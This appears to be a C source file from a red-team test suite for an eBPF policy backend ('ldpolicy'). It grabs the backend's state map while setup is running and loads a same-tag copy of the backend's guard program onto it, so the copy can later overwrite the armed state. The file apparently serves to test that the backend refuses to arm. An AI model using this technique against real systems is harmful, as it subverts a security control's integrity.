// SPDX-License-Identifier: GPL-2.0
/*
 * ldbpfdoor steal-copy: a copy of the backend's own code holding its
 * state map (a red team's).
 *
 * Before the setup attaches its map guard, take an fd to the state map
 * of the object it sets up; load a copy of the object's ldp_guard_on,
 * the same instructions, so the same tag, with that map where the copy
 * keeps its ldp_guard; then close every map fd and keep only the copy.
 * A setup that counted the references to its maps by tag would take the
 * copy's for one of its own programs' and arm; the copy, run afterwards,
 * writes its context's program ids over the armed state's words. The
 * backend must not arm while the copy holds its map.
 *
 * ldpolicy makes two state maps in a load that sets the backend up: its
 * first pass only learns its programs' tags (the load stops before any
 * program, and the map goes as it ends), its second is the object it
 * sets up. The copy takes the second.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include <bpf/bpf.h>
#include <bpf/libbpf.h>

#include "../../../userspace/ldpolicy/bpf/ldp_bpf.h"
#include "ldbpfdoor.h"
#include "ldpolicy.skel.h"

static struct bpf_object *copy_obj;

/*
 * The object's first program, by section (bpf/tagger.bpf.c): when libbpf
 * prepares it, every program is relocated; undo the helper aliases there,
 * as ldpolicy does before it loads them.
 */
static int copy_prepare(struct bpf_program *prog, struct bpf_prog_load_opts *opts, long cookie)
{
	struct bpf_program *p;

	(void)opts;
	(void)cookie;
	bpf_object__for_each_program(p, copy_obj) {
		size_t n = bpf_program__insn_cnt(p);
		struct bpf_insn *insns;
		int err;

		if (p == prog || !bpf_program__autoload(p))
			continue;
		insns = malloc(n * sizeof(*insns));
		if (!insns)
			return -ENOMEM;
		memcpy(insns, bpf_program__insns(p), n * sizeof(*insns));
		for (size_t i = 0; i < n; i++)
			if (insns[i].code == (BPF_JMP | BPF_CALL) && !insns[i].src_reg &&
			    (insns[i].imm & 0xffff0000) == LDP_HELPER_ALIAS_BASE)
				insns[i].imm &= 0xffff;
		err = bpf_program__set_insns(p, insns, n);
		free(insns);
		if (err)
			return err;
	}
	return 0;
}

/* An fd to the @nth map named ldp_state to appear within @secs seconds; -1. */
static int nth_state_map(int nth, int secs)
{
	static const struct timespec nap = { 0, 200000 };
	time_t end = time(NULL) + secs;
	__u32 id = 0, seen = 0;
	int found = 0;

	while (time(NULL) < end) {
		struct bpf_map_info mi = { 0 };
		__u32 len = sizeof(mi), next;
		int fd;

		if (bpf_map_get_next_id(id, &next)) {
			id = seen;
			nanosleep(&nap, NULL);
			continue;
		}
		id = next;
		if (next <= seen)
			continue;
		seen = next;
		fd = bpf_map_get_fd_by_id(next);
		if (fd < 0)
			continue;
		if (!bpf_obj_get_info_by_fd(fd, &mi, &len) && !strcmp(mi.name, "ldp_state") &&
		    ++found == nth)
			return fd;
		close(fd);
	}
	return -1;
}

void door_steal_copy(int secs)
{
	LIBBPF_OPTS(libbpf_prog_handler_opts, hopts, .prog_prepare_load_fn = copy_prepare);
	struct ldpolicy_bpf *skel;
	struct bpf_program *p;
	struct bpf_prog_info info = { 0 };
	__u32 len = sizeof(info);
	sigset_t term;
	int state, prog, sig, err;

	sigemptyset(&term);
	sigaddset(&term, SIGTERM);
	if (sigprocmask(SIG_BLOCK, &term, NULL))
		die("sigprocmask: %s", strerror(errno));
	if (libbpf_register_prog_handler("ldp.tagger", BPF_PROG_TYPE_SOCKET_FILTER, 0, &hopts) < 0)
		die("register the tagger's section");
	skel = ldpolicy_bpf__open();
	if (!skel)
		die("open the backend's object: %s", strerror(errno));
	copy_obj = skel->obj;
	bpf_object__for_each_program(p, skel->obj)
		bpf_program__set_autoload(p, p == skel->progs.ldp_tagger ||
					  p == skel->progs.ldp_guard_on);
	printf("waiting for the backend's state map\n");
	state = nth_state_map(2, secs);
	if (state < 0)
		die("no state map of a setup appeared in %d s", secs);
	/* the state map where the copy keeps its guard: its stores land there */
	err = bpf_map__reuse_fd(skel->maps.ldp_guard, state);
	if (!err)
		err = ldpolicy_bpf__load(skel);
	if (err)
		die("load the copy: %s", strerror(-err));
	prog = fcntl(bpf_program__fd(skel->progs.ldp_guard_on), F_DUPFD_CLOEXEC, 0);
	if (prog < 0 || bpf_obj_get_info_by_fd(prog, &info, &len))
		die("keep the copy: %s", strerror(errno));
	ldpolicy_bpf__destroy(skel);	/* and every map fd with it */
	close(state);
	printf("holds a copy of ldp_guard_on (program %u, tag %02x%02x%02x%02x) on the state map\n",
	       info.id, info.tag[0], info.tag[1], info.tag[2], info.tag[3]);
	if (sigwait(&term, &sig))
		die("sigwait: %s", strerror(errno));
	printf("ended: still holds the copy\n");
	close(prog);
}
